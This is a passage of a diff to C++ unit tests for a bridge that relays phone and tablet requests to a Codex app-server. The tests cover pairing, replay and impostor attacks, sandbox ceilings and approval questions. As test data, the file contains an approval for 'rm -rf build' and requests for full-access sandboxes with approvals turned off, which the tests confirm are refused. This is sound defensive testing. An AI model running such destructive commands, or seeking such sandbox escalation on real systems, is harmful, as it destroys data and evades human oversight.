@@ -23,19 +23,31 @@ namespace {
 class BridgeControllerTest : public ::testing::Test, public ControllerRig {
 protected:
     void makeController(bool withIdentity = true) { make({storedPeers, withIdentity}); }
-
     HelloPayload macHelloSentTo(const PeerHandle& peer) {
         auto hello = lastOfKind(peer, BridgeMessageKind::hello);
         EXPECT_TRUE(hello) << "no hello was sent";
         return hello ? HelloPayload::fromJSON(*hello->body).value() : HelloPayload{};
     }
-
+    // What a device sends: a request, an answer to a question; and a refusal it is sent.
+    void sendRequest(const PeerHandle& peer, std::string id, std::string method,
+                     std::optional<JSONValue> params = {}) {
+        link->deliver(peer, makeMessage(BridgeMessageKind::request, std::move(id),
+                                        std::move(method), std::move(params)));
+    }
+    void sendAnswer(const PeerHandle& peer, std::optional<std::string> id,
+                    std::optional<JSONValue> body = {}) {
+        link->deliver(peer, makeMessage(BridgeMessageKind::serverResponse, std::move(id), {},
+                                        std::move(body)));
+    }
+    static BridgeMessage refusal(std::optional<std::string> id, JSONValue body) {
+        return makeMessage(BridgeMessageKind::error, std::move(id), {}, std::move(body));
+    }
+    static JSONValue decision(JSONValue word) { return JSONObject{{"decision", std::move(word)}}; }
     std::map<std::string, TrustedPeer> storedPeers;
 };
 
 } // namespace
 
-// ---------------------------------------------------------------------------------------------
 // Construction, start and the activity log
 
 TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundredLines) {
@@ -53,7 +65,6 @@ TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundr
     EXPECT_TRUE(controller->appServerReady());
     EXPECT_EQ(controller->appServerStatus().toStdString(), "Codex app-server ready");
     EXPECT_EQ(ready.count(), 1);
-
     // A restart is logged above the status it brings, and the devices stay.
     pairDevice("Phone");
     controller->restartAppServer();
@@ -66,7 +77,6 @@ TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundr
     controller->restartAppServer();
     EXPECT_EQ(appServer->starts.back(), std::nullopt);
     EXPECT_EQ(controller->appServerStatus().toStdString(), controller->logs()[1]);
-
     for (int i = 0; i < 150; ++i) {
         appServer->status("line " + std::to_string(i), false);
     }
@@ -103,7 +113,6 @@ TEST_F(BridgeControllerTest, TrustedPeersAreSortedCaseSensitively) {
     EXPECT_EQ(names, (std::vector<std::string>{"Ann", "Zed", "bob"}));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Intake
 
 // Pings and other versions at every stage: DeviceHandshakeTest.
@@ -167,7 +176,6 @@ TEST_F(BridgeControllerTest, MalformedBytesAndFailedHellosGiveOneBoundedLineAndS
     }
 }
 
-// ---------------------------------------------------------------------------------------------
 // Handshake and pairing
 
 TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthorises) {
@@ -176,7 +184,6 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_TRUE(macHello.verify());
     EXPECT_EQ(macHello.displayName, "Studio");
     ask(device.peer);
-
     ASSERT_EQ(controller->pairingRequests().size(), 1u);
     const PairingRequest& request = controller->pairingRequests()[0];
     EXPECT_EQ(request.peer, device.peer);
@@ -184,7 +191,6 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_EQ(controller->logs().front(),
               "Pairing requested by Phone. Compare code " + request.code + ".");
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
-
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_TRUE(controller->pairingRequests().empty());
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
@@ -193,8 +199,7 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_EQ(controller->trustedPeers()[0].publicKey, device.hello.publicKey);
     EXPECT_EQ(lastSentTo(device.peer),
               makeMessage(BridgeMessageKind::pairingAccepted, {}, {}, macHello.toJSON()));
-
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "r1", "thread/list"));
+    sendRequest(device.peer, "r1", "thread/list");
     ASSERT_EQ(appServer->requests.size(), 1u);
 }
 
@@ -283,7 +288,6 @@ TEST_F(BridgeControllerTest, ATrustedDeviceIsAuthorisedByItsHelloAlone) {
     TestSigner& signer = first.signer;
     link->disconnect(first.peer);
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
-
     PeerHandle again = link->connect("Phone");
     HelloPayload macHello = macHelloSentTo(again);
     hello(again, signer.hello("Phone"));
@@ -298,13 +302,12 @@ TEST_F(BridgeControllerTest, AKnownDeviceIDWithAnotherKeyGetsNothing) {
     auto& paired = pairDevice("Phone");
     link->disconnect(paired.peer);
     const std::size_t linesBefore = controller->logs().size();
-
     // Same device ID, its own key: the hello verifies, but the stored key differs.
     TestSigner impostor(paired.signer.deviceID());
     PeerHandle peer = link->connect("Phone");
     hello(peer, impostor.hello("Phone"));
     ask(peer);
-    link->deliver(peer, makeMessage(BridgeMessageKind::request, "r", "thread/list"));
+    sendRequest(peer, "r", "thread/list");
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
     EXPECT_TRUE(controller->pairingRequests().empty());
     EXPECT_EQ(controller->logs().size(), linesBefore);
@@ -312,8 +315,7 @@ TEST_F(BridgeControllerTest, AKnownDeviceIDWithAnotherKeyGetsNothing) {
     auto sent = link->sentTo(peer);
     ASSERT_EQ(sent.size(), 2u);
     EXPECT_EQ(sent[0].kind, BridgeMessageKind::hello);
-    EXPECT_EQ(sent[1],
-              makeMessage(BridgeMessageKind::error, "r", {}, JSONValue("Pair this device first.")));
+    EXPECT_EQ(sent[1], refusal("r", "Pair this device first."));
 }
 
 TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgain) {
@@ -324,7 +326,6 @@ TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgai
     hello(watcher, device.signer.hello("Phone watch"));
     ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone watch"));
     const std::size_t closedBefore = link->closedByOwner.size();
-
     const auto& trusted = controller->trustedPeers();
     const auto phone = std::find_if(trusted.begin(), trusted.end(), [&](const TrustedPeer& peer) {
         return peer.deviceID == device.signer.deviceID();
@@ -340,26 +341,22 @@ TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgai
         std::vector<SessionClose>(link->closeCodes.begin() + closedBefore, link->closeCodes.end()),
         (std::vector<SessionClose>{SessionClose::forgotten, SessionClose::forgotten}));
     EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Tablet"}));
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "r1", "thread/list"));
+    sendRequest(device.peer, "r1", "thread/list");
     EXPECT_TRUE(appServer->requests.empty());
-
-    auto& again = connectDevice("Phone");
-    ask(again.peer);
+    requestPairing("Phone");
     ASSERT_EQ(controller->pairingRequests().size(), 1u);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
 }
 
 TEST_F(BridgeControllerTest, TrustStoreFailuresAreLoggedAndChangeNothingShown) {
-    auto& device = connectDevice("Phone");
-    ask(device.peer);
+    requestPairing("Phone");
     trustStore->failWrites = true;
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_EQ(controller->logs().front(), "Pairing failed: Keychain error -25299");
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
     EXPECT_TRUE(controller->trustedPeers().empty());
     EXPECT_EQ(controller->pairingRequests().size(), 1u);
-
     trustStore->failWrites = false;
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     trustStore->failWrites = true;
@@ -375,9 +372,7 @@ TEST_F(BridgeControllerTest, SendFailuresAreReportedWhereTheyMatter) {
     EXPECT_EQ(controller->logs().front(),
               "Could not start secure handshake: The signing key is not usable.");
     identity->fail = false;
-
-    auto& device = connectDevice("Tablet");
-    ask(device.peer);
+    auto& device = requestPairing("Tablet");
     link->failingPeers.insert(device.peer);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_EQ(controller->logs().front(), "Pairing failed: The peer is not connected.");
@@ -385,7 +380,6 @@ TEST_F(BridgeControllerTest, SendFailuresAreReportedWhereTheyMatter) {
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Tablet"));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Request relay
 
 // A stranger's requests: DeviceHandshakeTest.
@@ -401,8 +395,7 @@ TEST_F(BridgeControllerTest, RefusalsNeverReachTheAppServer) {
     for (const auto& request : refused) {
         link->deliver(device.peer, request);
         EXPECT_EQ(lastSentTo(device.peer),
-                  makeMessage(BridgeMessageKind::error, request.id, {},
-                              JSONValue("That method is not available through Tarnwick.")));
+                  refusal(request.id, "That method is not available through Tarnwick."));
     }
     EXPECT_TRUE(appServer->requests.empty());
 }
@@ -414,34 +407,30 @@ TEST_F(BridgeControllerTest, RelaysRequestsAndAnswersUnderTheDevicesOwnIDs) {
           "turn/interrupt", "model/list", "account/read"}) {
         EXPECT_TRUE(RequestRelay::isAllowlisted(method)) << method;
     }
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "a", "model/list"));
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "b", "thread/read",
-                                           JSONValue(JSONObject{{"threadId", "/tmp"}})));
+    sendRequest(device.peer, "a", "model/list");
+    sendRequest(device.peer, "b", "thread/read", JSONValue(JSONObject{{"threadId", "/tmp"}}));
     ASSERT_EQ(appServer->requests.size(), 2u);
     EXPECT_EQ(appServer->requests[0].params, JSONValue(JSONObject{}));
     EXPECT_EQ(appServer->requests[1].params, JSONValue(JSONObject{{"threadId", "/tmp"}}));
-
     appServer->answer(1, JSONValue(JSONArray{1, 2}));
     appServer->requests[0].completion(Unexpected(Error{"Codex app-server is still starting."}));
     auto sent = link->sentTo(device.peer);
     ASSERT_GE(sent.size(), 2u);
     EXPECT_EQ(sent[sent.size() - 2],
               makeMessage(BridgeMessageKind::response, "b", {}, JSONValue(JSONArray{1, 2})));
-    EXPECT_EQ(sent.back(), makeMessage(BridgeMessageKind::error, "a", {},
-                                       JSONValue("Codex app-server is still starting.")));
+    EXPECT_EQ(sent.back(), refusal("a", "Codex app-server is still starting."));
 }
 
 TEST_F(BridgeControllerTest, AnAnswerForADeviceThatLeftIsLogged) {
     auto& device = pairDevice("Phone");
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "a", "thread/list"));
+    sendRequest(device.peer, "a", "thread/list");
     link->disconnect(device.peer);
     appServer->answer(0, JSONValue(JSONObject{}));
     EXPECT_EQ(controller->logs().front(), "Could not reply to Phone: The peer is not connected.");
-
     // The name is shown in the log as everywhere else: cut, and its hidden characters spelled out.
     const std::string hidden = "Ph\u200Bone " + std::string(100, 'x');
     auto& other = pairDevice(hidden);
-    link->deliver(other.peer, makeMessage(BridgeMessageKind::request, "b", "thread/list"));
+    sendRequest(other.peer, "b", "thread/list");
     link->disconnect(other.peer);
     appServer->answer(1, JSONValue(JSONObject{}));
     EXPECT_EQ(controller->logs().front(), "Could not reply to " + controller->shownName(hidden) +
@@ -469,12 +458,11 @@ TEST_F(BridgeControllerTest, NotificationsGoToAuthorisedDevicesInLinkOrder) {
 TEST_F(BridgeControllerTest, WhatIsTooLargeForADeviceIsNotSent) {
     auto& device = pairDevice("Phone");
     const JSONValue huge(JSONObject{{"text", std::string(linkwire::maxBlockSize, 'x')}});
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "r", "thread/read"));
+    sendRequest(device.peer, "r", "thread/read");
     appServer->answer(0, huge);
     EXPECT_EQ(lastSentTo(device.peer),
-              makeMessage(BridgeMessageKind::error, "r", {},
-                          JSONValue("The answer is too large for a device: 17 MiB, and a device "
-                                    "takes at most 16 MiB.")));
+              refusal("r", "The answer is too large for a device: 17 MiB, and a device "
+                           "takes at most 16 MiB."));
     link->sent.clear();
     appServer->notify("item/completed", huge);
     EXPECT_TRUE(link->sent.empty());
@@ -495,7 +483,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     link->waiting[quick.peer] = RequestRelay::holdAbove;
     appServer->notify("item/delta", params);
     EXPECT_FALSE(appServer->held) << "at the mark is not behind";
-
     link->waiting[slow.peer] = RequestRelay::holdAbove + 1;
     appServer->notify("item/delta", params);
     EXPECT_TRUE(appServer->held);
@@ -503,15 +490,13 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     EXPECT_TRUE(appServer->held) << "another device is still behind";
     link->ease(slow.peer);
     EXPECT_FALSE(appServer->held);
-
     // An answer to a device that is behind holds as well; its leaving releases.
-    link->deliver(slow.peer, makeMessage(BridgeMessageKind::request, "r", "thread/read"));
+    sendRequest(slow.peer, "r", "thread/read");
     link->waiting[slow.peer] = 3 * RequestRelay::holdAbove;
     appServer->answer(0, params);
     EXPECT_TRUE(appServer->held);
     link->disconnect(slow.peer);
     EXPECT_FALSE(appServer->held);
-
     // A device that does not catch up is let go after the limit, and waited for again once it
     // has caught up.
     link->waiting[quick.peer] = 3 * RequestRelay::holdAbove;
@@ -526,7 +511,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     EXPECT_TRUE(appServer->held);
 }
 
-// ---------------------------------------------------------------------------------------------
 // Approvals
 
 TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly) {
@@ -545,28 +529,22 @@ TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly
     ASSERT_TRUE(question.id);
     EXPECT_TRUE(std::regex_match(
         *question.id, std::regex("[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}")));
-
     // Unpaired devices, unknown ids and missing ids are ignored; any paired device may answer.
-    link->deliver(stranger.peer, makeMessage(BridgeMessageKind::serverResponse, question.id, {},
-                                             JSONValue(JSONObject{{"decision", "accept"}})));
-    link->deliver(second.peer, makeMessage(BridgeMessageKind::serverResponse, "unknown"));
-    link->deliver(second.peer, makeMessage(BridgeMessageKind::serverResponse));
+    sendAnswer(stranger.peer, question.id, decision("accept"));
+    sendAnswer(second.peer, "unknown");
+    sendAnswer(second.peer, {});
     EXPECT_TRUE(appServer->replies.empty());
     // A word Codex did not offer is refused and the question stays open for a real answer.
-    link->deliver(second.peer, makeMessage(BridgeMessageKind::serverResponse, question.id, {},
-                                           JSONValue(JSONObject{{"decision", "maybe"}})));
+    sendAnswer(second.peer, question.id, decision("maybe"));
     EXPECT_TRUE(appServer->replies.empty());
     EXPECT_EQ(lastSentTo(second.peer),
-              makeMessage(BridgeMessageKind::error, question.id, {},
-                          JSONValue("Codex did not offer that decision for this question.")));
-    JSONValue decision = JSONObject{{"decision", "cancel"}};
-    link->deliver(second.peer,
-                  makeMessage(BridgeMessageKind::serverResponse, question.id, {}, decision));
+              refusal(question.id, "Codex did not offer that decision for this question."));
+    const JSONValue cancel = decision("cancel");
+    sendAnswer(second.peer, question.id, cancel);
     ASSERT_EQ(appServer->replies.size(), 1u);
     EXPECT_EQ(appServer->replies[0].id, JSONValue(12));
-    EXPECT_EQ(appServer->replies[0].result, decision);
-    link->deliver(first.peer,
-                  makeMessage(BridgeMessageKind::serverResponse, question.id, {}, decision));
+    EXPECT_EQ(appServer->replies[0].result, cancel);
+    sendAnswer(first.peer, question.id, cancel);
     EXPECT_EQ(appServer->replies.size(), 1u);
     // Nothing a version-1 device did not see before: no note of how the question ended.
     for (const auto& sent : link->sent) {
@@ -581,9 +559,8 @@ TEST_F(BridgeControllerTest, WithoutAWaitLimitTheBridgeDeclinesWhenNoDeviceCanBe
     link->failingPeers.insert(device.peer);
     appServer->ask(JSONValue("x"), "item/commandExecution/requestApproval", JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 1u);
-    EXPECT_EQ(appServer->replies[0].result, JSONValue(JSONObject{{"decision", "decline"}}));
+    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
     EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
-
     appServer->ask(JSONValue(3), "item/tool/requestUserInput", JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 2u);
     EXPECT_EQ(appServer->replies[1].errorMessage,
@@ -597,15 +574,14 @@ TEST_F(BridgeControllerTest, AQuestionOutlivesADisconnectAndAnEmptyAnswerDecline
     std::string questionID = *link->sent.at(0).message.id;
     link->disconnect(device.peer);
     EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
-
     PeerHandle again = link->connect("Phone");
     hello(again, device.signer.hello("Phone"));
     ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone"));
     // Asked once, as version 1 always was (ApprovalsTest: not asked again), it keeps the id.
-    link->deliver(again, makeMessage(BridgeMessageKind::serverResponse, questionID));
+    sendAnswer(again, questionID);
     ASSERT_EQ(appServer->replies.size(), 1u);
     EXPECT_EQ(appServer->replies[0].id, JSONValue(5));
-    EXPECT_EQ(appServer->replies[0].result, JSONValue(JSONObject{{"decision", "decline"}}));
+    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
 }
 
 TEST_F(BridgeControllerTest, ARestartEndsTheQuestionsOfTheStoppedProcess) {
@@ -617,22 +593,18 @@ TEST_F(BridgeControllerTest, ARestartEndsTheQuestionsOfTheStoppedProcess) {
     const std::string before = *link->sent.at(0).message.id;
     controller->restartAppServer();
     EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
-
     // The new process asks with the same id; only the answer to its own question reaches it.
     appServer->ask(JSONValue(0), "item/commandExecution/requestApproval",
                    JSONObject{{"command", "rm -rf build"}});
     const std::string after = *link->sent.at(1).message.id;
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::serverResponse, before, {},
-                                           JSONValue(JSONObject{{"decision", "accept"}})));
+    sendAnswer(device.peer, before, decision("accept"));
     EXPECT_TRUE(appServer->replies.empty()) << "an answer to ls must not approve rm -rf build";
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::serverResponse, after, {},
-                                           JSONValue(JSONObject{{"decision", "decline"}})));
+    sendAnswer(device.peer, after, decision("decline"));
     ASSERT_EQ(appServer->replies.size(), 1u);
     EXPECT_EQ(appServer->replies[0].id, JSONValue(0));
-    EXPECT_EQ(appServer->replies[0].result, JSONValue(JSONObject{{"decision", "decline"}}));
+    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Handshake version 2, and the attacks each of its steps stops
 
 namespace {
@@ -640,7 +612,6 @@ namespace {
 class HandshakeV2Test : public BridgeControllerTest {
 protected:
     HandshakeV2Test() { link->fingerprint = std::string(64, 'c'); }
-
     const BridgeMessage acceptedV2 = makeMessage(BridgeMessageKind::pairingAccepted, {}, {},
                                                  JSONValue(JSONObject{{"protocol", 2}}));
     // What a version-2 device is sent on being accepted: the acceptance, then its ceiling.
@@ -705,8 +676,7 @@ TEST_F(HandshakeV2Test, PairsByCommitAndRevealAndAuthenticatesByProofOnReconnect
         EXPECT_TRUE(decideNewest(PairingDecision::accept));
         EXPECT_EQ(lastTwoSentTo(device->peer), welcome());
         EXPECT_EQ(trustStore->peers.at(device->signer.deviceID()).protocolVersion, 2);
-        link->deliver(device->peer, makeMessage(BridgeMessageKind::request, "r", "thread/list"));
-
+        sendRequest(device->peer, "r", "thread/list");
         // The next connection proves itself and needs nobody.
         link->disconnect(device->peer);
         auto again = connectV2(name, seen, std::move(device));
@@ -725,36 +695,19 @@ TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_EQ(lastTwoSentTo(phone->peer), welcome());
     auto& tablet = pairDevice("Tablet");
-
-    // A relayed or stolen session asks for everything at once: nothing of it reaches Codex,
-    // on either handshake version, and the log says who asked for what.
-    const JSONValue everything(
-        JSONObject{{"cwd", "/"}, {"approvalPolicy", "never"}, {"sandbox", "danger-full-access"}});
-    for (const auto* peer : {&phone->peer, &tablet.peer}) {
-        link->deliver(*peer,
-                      makeMessage(BridgeMessageKind::request, "x", "thread/start", everything));
-        auto refused = lastSentTo(*peer);
-        ASSERT_TRUE(refused);
-        EXPECT_EQ(refused->kind, BridgeMessageKind::error);
-        EXPECT_EQ(refused->id, "x");
-        EXPECT_NE(ErrorBody::read(refused->body, "").message.find("approval"), std::string::npos);
-    }
-    link->deliver(tablet.peer,
-                  makeMessage(BridgeMessageKind::request, "y", "turn/start",
-                              JSONValue(JSONObject{
-                                  {"threadId", "t"},
-                                  {"input", JSONArray{}},
-                                  {"sandboxPolicy", JSONObject{{"type", "dangerFullAccess"}}}})));
+    // A stolen session asking for more on either version: DeviceHandshakeTest's refusals.
+    sendRequest(tablet.peer, "y", "turn/start",
+                JSONValue(JSONObject{{"threadId", "t"},
+                                     {"input", JSONArray{}},
+                                     {"sandboxPolicy", JSONObject{{"type", "dangerFullAccess"}}}}));
     EXPECT_EQ(lastSentTo(tablet.peer),
-              makeMessage(BridgeMessageKind::error, "y", {},
-                          JSONValue("This computer allows devices at most the workspace-write "
-                                    "sandbox.")));
+              refusal("y", "This computer allows devices at most the workspace-write "
+                           "sandbox."));
     EXPECT_EQ(
         controller->logs().front(),
         "Tablet asked for sandboxPolicy {\"type\":\"dangerFullAccess\"} in turn/start, refused: "
         "This computer allows devices at most the workspace-write sandbox.");
     EXPECT_TRUE(appServer->requests.empty());
-
     // The phone is given a lower ceiling: it learns it at once, the version-1 tablet learns
     // nothing new on its wire, and each is held to its own.
     CeilingBook book = controller->ceilings();
@@ -768,15 +721,12 @@ TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
                           book.devices[phone->signer.deviceID()].toJSON()));
     EXPECT_EQ(link->sentTo(tablet.peer).size(), sentToTablet);
     const JSONValue writing(JSONObject{{"sandbox", "workspace-write"}});
-    link->deliver(phone->peer,
-                  makeMessage(BridgeMessageKind::request, "p", "thread/start", writing));
-    link->deliver(tablet.peer,
-                  makeMessage(BridgeMessageKind::request, "t", "thread/start", writing));
+    sendRequest(phone->peer, "p", "thread/start", writing);
+    sendRequest(tablet.peer, "t", "thread/start", writing);
     EXPECT_EQ(lastSentTo(phone->peer)->kind, BridgeMessageKind::error);
     ASSERT_EQ(appServer->requests.size(), 1u);
     EXPECT_EQ(*appServer->requests[0].params.member("sandbox"), JSONValue("workspace-write"));
     EXPECT_EQ(*appServer->requests[0].params.member("approvalPolicy"), JSONValue("on-request"));
-
     // A ceiling that cannot be kept does not hold either.
     ceilings->failSave = true;
     book.devices.clear();
@@ -790,8 +740,7 @@ TEST_F(BridgeControllerTest, ATurnRunsWithWhatItsThreadWasGivenOnlyWithinTheCeil
     const std::string work = home.path().string() + "/work";
     std::filesystem::create_directory(work);
     auto ask = [&](const char* id, const char* method, JSONObject params) {
-        link->deliver(phone.peer,
-                      makeMessage(BridgeMessageKind::request, id, method, JSONValue(params)));
+        sendRequest(phone.peer, id, method, JSONValue(params));
         return lastSentTo(phone.peer);
     };
     // A thread made on this computer in "/" with everything open, resumed as it is.
@@ -829,17 +778,15 @@ TEST_F(HandshakeV2Test, AProofCapturedOnOneConnectionIsWorthlessOnAnother) {
     auto device = connectV2("Phone");
     requestPairing(*device);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
-
     // Someone replays the device's offer and proof on a connection of their own.
     PeerHandle replay = link->connect("Phone", 2);
     hello(replay, device->offer);
     sendProof(replay, device->proof);
     EXPECT_EQ(controller->logs().front(),
               "Rejected malformed message from Phone: Handshake signature did not verify.");
-    link->deliver(replay, makeMessage(BridgeMessageKind::request, "x", "thread/list"));
+    sendRequest(replay, "x", "thread/list");
     EXPECT_EQ(lastSentTo(replay),
-              makeMessage(BridgeMessageKind::error, "x", {},
-                          ErrorBody::make(ErrorCode::notPaired, "Pair this device first.", 2)));
+              refusal("x", ErrorBody::make(ErrorCode::notPaired, "Pair this device first.", 2)));
     EXPECT_TRUE(appServer->requests.empty());
 }
 
@@ -852,7 +799,6 @@ TEST_F(HandshakeV2Test, ARelayedCertificateOrAGrindingDeviceGetsNothing) {
     const std::size_t sent = link->sentTo(relayed->peer).size();
     link->deliver(relayed->peer, makeMessage(BridgeMessageKind::ping, "p"));
     EXPECT_EQ(link->sentTo(relayed->peer).size(), sent) << "the session gets nothing more";
-
     // A device that tries to reveal another nonce than it committed to, to pick its code.
     auto grinder = connectV2("Grinder");
     requestPairing(*grinder, randomNonceV2());
@@ -889,7 +835,6 @@ TEST_F(HandshakeV2Test, AnAttemptAbandonedBeforeItsRevealClosesAndFewAttemptsMay
     link->disconnect(leaver->peer);
     EXPECT_EQ(controller->logs().front(),
               "Leaver left during a pairing attempt, before revealing its nonce.");
-
     // Two attempts so far; the rest of the minute's share of this address, each revealed.
     for (int attempt = 2; attempt < PairingAttemptLimit::defaultPerAddress; ++attempt) {
         auto device = connectV2("Phone " + std::to_string(attempt));
@@ -924,7 +869,6 @@ TEST_F(HandshakeV2Test, AVersionOneHelloIsRefusedForADevicePairedWithVersionTwo)
     requestPairing(*device);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     link->disconnect(device->peer);
-
     // The device's own key, through version 1: a replayable hello is not enough any more.
     PeerHandle old = link->connect("Phone");
     hello(old, device->signer.hello("Phone"));
@@ -952,7 +896,6 @@ TEST_F(HandshakeV2Test, AVersionOneRecordIsUpgradedWhenItsDeviceProvesItselfWith
     EXPECT_EQ(trustStore->peers.begin()->second.protocolVersion, 2);
 }
 
-// ---------------------------------------------------------------------------------------------
 // Approvals that wait, are shown on every version-2 session and are settled
 
 namespace {
@@ -1013,7 +956,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     ASSERT_EQ(toOld.size(), 1u);
     EXPECT_EQ(toOld[0].id, first[0].id);
     EXPECT_EQ(toOld[0].body, commandParams());
-
     // The phone's screen locked and came back: right after its pairingAccepted, the same id,
     // with how long Codex has waited.
     now += 42s;
@@ -1025,7 +967,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     EXPECT_EQ(sent[sent.size() - 2].kind, BridgeMessageKind::ceiling);
     EXPECT_EQ(sent.back().id, first[0].id);
     EXPECT_EQ(sent.back().body, shown(commandParams(), 42));
-
     // A second question; a session that comes back gets both, oldest first.
     const JSONValue fileParams = JSONObject{{"threadId", "t2"}, {"turnId", "u9"}, {"itemId", "f"}};
     appServer->ask(JSONValue("b"), fileMethod, fileParams);
@@ -1036,7 +977,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     EXPECT_EQ(both[0].id, first[0].id);
     EXPECT_EQ(both[1].method, fileMethod);
     EXPECT_EQ(both[1].body, shown(fileParams, 0));
-
     // A version-1 device that comes back is not asked again.
     link->disconnect(old.peer);
     PeerHandle oldAgain = link->connect("Old");
@@ -1048,7 +988,7 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
 }
 
 TEST_F(ApprovalsTest, EverySessionShownAQuestionIsToldHowItEnded) {
-    const JSONValue decline = JSONObject{{"decision", "decline"}};
+    const JSONValue decline = decision("decline");
     struct Case {
         std::string name;
         std::function<void(const std::string& bridgeID, const V2Device& laptop)> settle;
@@ -1062,12 +1002,10 @@ TEST_F(ApprovalsTest, EverySessionShownAQuestionIsToldHowItEnded) {
     const std::vector<Case> cases = {
         {"answered",
          [&](const std::string& id, const V2Device& laptop) {
-             link->deliver(laptop.peer,
-                           makeMessage(BridgeMessageKind::serverResponse, id, {},
-                                       JSONValue(JSONObject{{"decision", amendment}})));
+             sendAnswer(laptop.peer, id, decision(amendment));
          },
          JSONObject{{"outcome", "answered"}, {"deviceName", "Laptop"}, {"decision", amendment}},
-         JSONValue(JSONObject{{"decision", amendment}})},
+         decision(amendment)},
         {"withdrawn by Codex",
          [&](const std::string&, const V2Device&) {
              appServer->notify("serverRequest/resolved",
@@ -1138,20 +1076,20 @@ TEST_F(ApprovalsTest, OnlyADecisionCodexOfferedReachesCodex) {
     const std::vector<Case> cases = {
         {commandMethod,
          commandParams(),
-         {JSONObject{{"decision", "acceptForSession"}}, JSONObject{{"decision", "maybe"}},
+         {decision("acceptForSession"), decision("maybe"),
           // The same shape with a wider amendment than Codex proposed.
           JSONObject{{"decision", JSONObject{{"acceptWithExecpolicyAmendment",
                                               JSONObject{{"execpolicy_amendment",
                                                           JSONArray{JSONValue("rm")}}}}}}},
           JSONValue("accept"), JSONObject{{"decisions", "accept"}}},
          JSONObject{{"decision", amendment}, {"note", "extra members are not passed on"}},
-         JSONObject{{"decision", amendment}}},
+         decision(amendment)},
         {fileMethod,
          offeredNothing,
-         {JSONObject{{"decision", "maybe"}}, JSONObject{{"decision", JSONObject{{"accept", true}}}},
-          JSONObject{{"decision", JSONValue()}}},
-         JSONObject{{"decision", "acceptForSession"}},
-         JSONObject{{"decision", "acceptForSession"}}},
+         {decision("maybe"), JSONObject{{"decision", JSONObject{{"accept", true}}}},
+          decision(JSONValue())},
+         decision("acceptForSession"),
+         decision("acceptForSession")},
     };
     auto phone = pairV2("Phone");
     auto& old = pairDevice("Old");
@@ -1162,20 +1100,17 @@ TEST_F(ApprovalsTest, OnlyADecisionCodexOfferedReachesCodex) {
             appServer->replies.clear();
             appServer->ask(JSONValue(7), c.method, c.params);
             const std::string id = *ofKind(answerer, BridgeMessageKind::serverRequest).back().id;
-            for (const JSONValue& answer : c.refused) {
